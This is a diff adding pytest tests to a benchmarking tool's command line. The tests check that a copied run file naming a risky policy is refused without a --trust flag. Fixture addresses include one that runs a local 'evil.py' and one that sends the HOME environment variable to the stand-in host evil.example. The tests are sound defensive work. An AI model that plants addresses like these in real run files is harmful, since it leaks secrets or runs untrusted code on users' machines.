@@ -11,6 +11,7 @@ from betterbench.cli.main import main
 from betterbench.errors import RecordError, RunConflictError, UnknownNameError
 from betterbench.evaluation import make_plan
 from betterbench.evaluation.planning.repeat import repeated_plan
+from betterbench.evaluation.planning.trust import risks_of
 from betterbench.recording import RunFolder
 
 pytestmark = pytest.mark.physics
@@ -158,3 +159,62 @@ def test_a_policy_that_declares_something_else_is_no_repetition(uninterrupted, t
     assert "is not the one of this run" in text
     assert "policy.metadata.checkpoint" in text
     assert not (tmp_path / "run").exists()
+
+
+def named(uninterrupted, tmp_path, address):
+    """A copy of a run whose run.json names another policy."""
+    source = tmp_path / "source"
+    shutil.copytree(uninterrupted.path, source)
+    form = json.loads((source / "run.json").read_bytes())
+    form["plan"]["policy"] = address
+    (source / "run.json").write_text(json.dumps(form), encoding="utf-8")
+    return source
+
+
+RISKS = {
+    "python:{folder}/evil.py:Evil": "runs the Python code of {folder}/evil.py:Evil",
+    "openpi://evil.example:80?api_key_env=HOME": "sends the environment variable HOME to evil.example:80",
+    "gr00t://127.0.0.1:1?patience=0&api_token%5Fenv=HOME": "sends the environment variable HOME to 127.0.0.1:1",
+    "lerobot:someone/else": "loads the checkpoint someone/else, which can run code",
+}
+
+
+@pytest.mark.parametrize(("address", "text"), RISKS.items())
+def test_what_a_file_names_runs_no_code_and_sends_no_secret_without_a_yes(
+    uninterrupted, tmp_path, capsys, address, text
+):
+    mark = tmp_path / "was here"
+    (tmp_path / "evil.py").write_text(f"open({str(mark)!r}, 'w').close()", encoding="utf-8")
+    source = named(uninterrupted, tmp_path, address.format(folder=tmp_path))
+    for where in (source, source / "run.json"):
+        assert main(["eval", "--from", str(where), "--out", str(tmp_path / "run"), "--uncertified"]) == 2
+        said = capsys.readouterr().err.replace("\n", "")
+        assert text.format(folder=tmp_path).replace(" ", "") in said.replace(" ", "")
+        assert "Give --trust if" in said
+    assert not mark.exists()
+    assert not (tmp_path / "run").exists()
+    assert repeated_plan(source, policy="noop").policy == "noop"
+
+
+def test_with_a_yes_the_named_policy_is_shown_and_made(uninterrupted, tmp_path, capsys):
+    mark = tmp_path / "was here"
+    (tmp_path / "own.py").write_text(f"open({str(mark)!r}, 'w').close()", encoding="utf-8")
+    source = named(uninterrupted, tmp_path, f"python:{tmp_path}/own.py:Missing")
+    arguments = ["eval", "--from", str(source), "--out", str(tmp_path / "run"), "--uncertified", "--workers", "1"]
+    assert main([*arguments, "--trust"]) == 2
+    said = capsys.readouterr().err.replace("\n", "")
+    assert f"names: python:{tmp_path}/own.py:Missing" in said
+    assert "has no 'Missing'" in said
+    assert mark.exists()
+
+
+def test_trust_is_about_a_file(capsys):
+    assert main(["eval", "--policy", "noop", "--trust"]) == 2
+    assert "--trust: it needs a run to repeat" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "address", ["expert", "noop", "zoo:lexical?strength=0.5", "replay:runs/a", "openpi://h:1?size=9"]
+)
+def test_what_runs_nothing_and_sends_nothing_needs_no_yes(address):
+    assert risks_of(address) == ()
